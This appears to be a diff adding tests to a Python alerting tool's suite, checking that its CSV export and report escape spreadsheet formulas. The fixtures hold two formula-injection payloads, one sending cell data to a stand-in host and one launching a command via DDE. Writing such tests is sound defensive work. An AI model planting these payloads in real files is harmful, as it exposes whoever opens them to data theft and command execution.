@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import io
 import json
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime
@@ -207,3 +208,34 @@ async def test_csv_export_reads_back_equal_to_the_database(tocsin: Harness, tmp_
                 assert row[name] == "", name
             else:
                 assert row[name] == str(value), name
+
+
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+FORMULA_CATEGORY = "@sum(1+1)*cmd|' /c calc'!a0"  # categories are stored lower case
+
+
+async def formula_alert(tocsin: Harness) -> None:
+    await tocsin.webhook(
+        "generic", {"title": FORMULA_TITLE, "category": FORMULA_CATEGORY, "level": 2}
+    )
+    await settle(tocsin, 1)
+
+
+async def test_the_csv_export_neutralises_formulas(tocsin: Harness, tmp_path: Path) -> None:
+    await formula_alert(tocsin)
+    out = tmp_path / "export.csv"
+    await invoke("export", "--format", "csv", "--output", str(out))
+    with out.open(encoding="utf-8", newline="") as handle:
+        (row,) = list(csv.DictReader(handle))
+    assert row["title"] == "'" + FORMULA_TITLE
+    assert row["category"] == "'" + FORMULA_CATEGORY
+    assert row["level"] == "2"  # numbers stay numbers
+    escaped = FORMULA_TITLE.replace('"', '""')
+    assert f'"\'{escaped}"' in out.read_text(encoding="utf-8")  # quoted, behind a quote
+
+
+async def test_the_csv_report_neutralises_formulas(tocsin: Harness) -> None:
+    await formula_alert(tocsin)
+    report = list(csv.reader(io.StringIO(await invoke("report", "7d", "--format", "csv"))))
+    (category,) = [r for r in report if r[0] == "category"]
+    assert category[1:3] == ["'" + FORMULA_CATEGORY, "1"]
